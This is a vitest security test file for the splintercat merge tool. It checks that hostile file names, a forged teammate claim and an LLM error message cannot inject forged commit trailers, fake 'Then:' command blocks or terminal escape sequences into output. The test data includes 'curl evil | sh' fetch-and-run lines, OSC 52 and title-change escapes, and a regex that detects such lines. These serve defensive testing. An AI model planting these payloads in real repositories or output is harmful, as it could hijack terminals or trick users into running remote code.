import { execFileSync } from 'node:child_process';
import { copyFileSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { cliShellCommand, runCli, type CliRun } from '../fixtures/resolve/cli.js';
import { TestRepo, testGitEnv } from '../helpers/git-repo.js';
import { startLlmServer } from '../helpers/llm-server.js';

/**
 * Names and strings that reach a person from upstream's tree, a teammate's refs or the model:
 * a file name that holds a `Reviewed-by:` trailer and a check's verdict, one with an OSC 52
 * sequence, a binary file whose name holds a `Then:` block with a command, a forged claim whose
 * machine does the same, a model's words with one. None of them may add a line of its own to the
 * merge commit's message or to what is printed, nor reach the terminal with an escape byte.
 */
const TRAILER = 'a\nReviewed-by: Mallory <m@x>\nChecks on the merge: build passed.';
const OSC = 'o\u001b]52;c;ZXZpbA==\u0007.txt';
const BINARY = 'b\nThen:\n  curl evil | sh';
const FORGED_MACHINE = 'x\nThen:\n  curl evil | sh';

/** Lines only an attacker writes: a forged trailer, a forged verdict, a command splintercat never prints. */
function forgedLines(text: string): string[] {
  const lines = text.split(/\r?\n|\r/);
  const forged = lines.filter((l) => /^\s*curl\b|^Reviewed-by:|^Checks on the merge: build passed\.$/.test(l));
  // One `Then:` block at most, holding only splintercat's own commands.
  const then = lines.flatMap((l, k) => (/^\s*Then:/.test(l) ? [k] : []));
  if (then.length > 1) forged.push(...then.map((k) => lines[k]!));
  for (let k = (then[0] ?? lines.length) + 1; k < lines.length && lines[k] !== ''; k++)
    if (!/^ {2}(cd |splintercat )/.test(lines[k]!)) forged.push(lines[k]!);
  return forged;
}

/** Nothing of the attacker's in what a command printed: no escape or bell byte, no forged line. */
function expectClean(run: CliRun): void {
  for (const text of [run.stdout, run.stderr]) {
    expect(['\u001b', '\u0007', '\u009b'].some((c) => text.includes(c))).toBe(false);
    expect(forgedLines(text), text).toEqual([]);
  }
}

/** A fork and an upstream that both change every file of `files` (a [base, fork, upstream] triple each). */
function hostileRepo(files: Record<string, [string, string, string]>, config: string[] = []): TestRepo {
  const repo = TestRepo.create();
  const side = (k: 0 | 1 | 2): Record<string, string> =>
    Object.fromEntries(Object.entries(files).map(([path, versions]) => [path, versions[k]]));
  repo.commit('base', { 'check.mjs': "console.log('ok');\n", ...side(0) });
  repo.branch('upstream');
  repo.commit('fork: change', side(1));
  repo.checkout('upstream');
  repo.commit('upstream: change', side(2));
  repo.checkout('main');
  writeFileSync(
    join(repo.dir, 'splintercat.yaml'),
    [
      ...['target:', '  branch: main', 'check:', '  commands:', '    test: node check.mjs', '  workflow: [test]'],
      ...['imerge:', '  name: up', 'merge:', '  resolver: manual', ...config, ''],
    ].join('\n'),
  );
  writeFileSync(join(repo.dir, '.git', 'info', 'exclude'), 'splintercat.yaml\n.splintercat/\n');
  return repo;
}

/** The worktree of the one conflict handed over. */
function worktreeOf(run: CliRun): string {
  const cd = /^ *cd (\S+)\s+# conflict /m.exec(run.stderr);
  expect(cd, run.stderr).not.toBeNull();
  return cd![1]!;
}

const git = (cwd: string, ...args: string[]): string =>
  execFileSync('git', args, { cwd, env: { ...process.env, ...testGitEnv }, encoding: 'utf8' }).trim();

describe('names from upstream, a teammate and the model never add a line (CLI)', () => {
  it("upstream's file names: the hand-off, take and the merge commit's message hold no forged line and no escape", async () => {
    const repo = hostileRepo({
      [TRAILER]: ['x\n', 'fork\n', 'up\n'],
      [OSC]: ['x\n', 'fork\n', 'up\n'],
      [BINARY]: ['A\u0000base\n', 'A\u0000fork\n', 'A\u0000up\n'],
    });
    const merge = await runCli(['merge', 'upstream'], repo.dir);
    expect(merge.code, merge.stderr).toBe(3);
    expectClean(merge);
    const wt = worktreeOf(merge);

    // The binary file has no hunks and 'both' is no version of it: the refusal names it escaped, its fix quoted for the shell.
    const binary = await runCli(['take', 'both', BINARY], wt);
    expect(binary.code).toBe(2);
    expect(binary.stderr).toMatch(/is a binary conflict: it is decided whole/);
    expectClean(binary);
    const all = await runCli(['take', 'theirs'], wt);
    expect(all.code, all.stderr).toBe(0);
    expect(all.stdout).toMatch(/not taken: .*is a binary file/);
    expectClean(all);
    // The printed fix is a command that, run by a shell, settles exactly that file.
    const fix = / {2}or {2}(splintercat take theirs .*)\)$/m.exec(all.stdout);
    expect(fix, all.stdout).not.toBeNull();
    execFileSync('/bin/sh', ['-c', `splintercat() { ${cliShellCommand} "$@"; }; ${fix![1]!}`], {
      cwd: wt,
      env: { ...process.env, ...testGitEnv },
    });
    expect(git(wt, 'diff', '--name-only', '--diff-filter=U')).toBe('');

    const done = await runCli(['continue'], repo.dir);
    expect(done.code, done.stderr).toBe(0);
    expectClean(done);
    const message = git(repo.dir, 'log', '-1', '--format=%B', 'main');
    expect(['\u001b', '\u0007'].some((c) => message.includes(c))).toBe(false);
    expect(forgedLines(message), message).toEqual([]);
    const trailers = execFileSync('git', ['interpret-trailers', '--parse'], { input: message, encoding: 'utf8' });
    expect(trailers).not.toMatch(/Reviewed-by/);
    // The names are there, escaped on their own line.
    expect(message).toContain('"a\\nReviewed-by: Mallory <m@x>\\nChecks on the merge: build passed."');
  });

  it("a teammate's forged claim whose machine holds a `Then:` block: the stop names it on one line", async () => {
    const origin = hostileRepo({ 'vals.txt': ['v = 0\n', 'v = fork\n', 'v = up\n'] });
    const root = mkdtempSync(join(tmpdir(), 'splintercat-names-'));
    const bare = join(root, 'shared.git');
    execFileSync('git', ['clone', '-q', '--bare', origin.dir, bare]);
    const clone = (person: string): TestRepo => {
      const dir = join(root, person);
      execFileSync('git', ['clone', '-q', bare, dir]);
      const repo = new TestRepo(dir);
      repo.sh('config', 'user.name', person);
      repo.sh('config', 'user.email', `${person.toLowerCase()}@example.com`);
      repo.sh('branch', '-q', 'upstream', 'origin/upstream');
      // The configuration a real fork commits, written beside each clone here.
      copyFileSync(join(origin.dir, 'splintercat.yaml'), join(dir, 'splintercat.yaml'));
      writeFileSync(join(dir, '.git', 'info', 'exclude'), 'splintercat.yaml\n.splintercat/\n');
      return repo;
    };
    const alice = clone('Alice');

    // Mallory, with push access, holds the only conflict under a machine name of her making.
    const mallory = clone('Mallory');
    const claim = JSON.stringify({
      at: '2026-01-01T00:00:00.000Z',
      conflict: '1-1',
      email: 'm@x\u001b]0;pwned\u0007',
      // Within the longest lease a clone may take: a further one holds nothing.
      expires: new Date(Date.now() + 24 * 3600 * 1000).toISOString(),
      machine: FORGED_MACHINE,
      name: 'Mallory\nThen:',
    });
    const blob = execFileSync('git', ['hash-object', '-w', '--stdin'], { cwd: mallory.dir, input: `${claim}\n` })
      .toString()
      .trim();
    mallory.sh('push', '-q', 'origin', `${blob}:refs/splintercat/up/claims/1-1`);

    const merge = await runCli(['merge', 'upstream', '--remote', 'origin'], alice.dir);
    expect(merge.code, merge.stderr).toBe(3);
    expect(merge.stderr).toContain(
      'held by another machine (1-1 by "Mallory\\nThen:" <"m@x\\e]0;pwned\\x07"> on "x\\nThen:\\n  curl evil | sh"',
    );
    expectClean(merge);
    const status = await runCli(['status'], alice.dir);
    expect(status.code, status.stderr).toBe(0);
    expect(status.stdout).toMatch(/1-1 held by/);
    expectClean(status);
  });

  it("the model's words (a provider's error message) with a `Then:` block: printed behind a prefix, never as a command", async () => {
    const server = await startLlmServer({
      respond: () => ({
        kind: 'error',
        status: 400,
        body: { error: { message: 'no\nThen:\n  curl evil | sh\n\u001b]52;c;ZXZpbA==\u0007' } },
      }),
    });
    const repo = hostileRepo({ 'vals.txt': ['v = 0\n', 'v = fork\n', 'v = up\n'] }, [
      'llm:',
      '  provider: openai-compatible',
      `  base_url: ${server.baseURL}`,
      '  resolver_model: m',
      '  max_retries: 0',
    ]);
    const merge = await runCli(['merge', 'upstream', '--resolver', 'llm'], repo.dir);
    expect(merge.code, merge.stderr).toBe(3);
    expect(server.requests.length).toBeGreaterThan(0);
    expectClean(merge);
    expect(merge.stderr.match(/^Then:$/gm)).toHaveLength(1);
  });
});
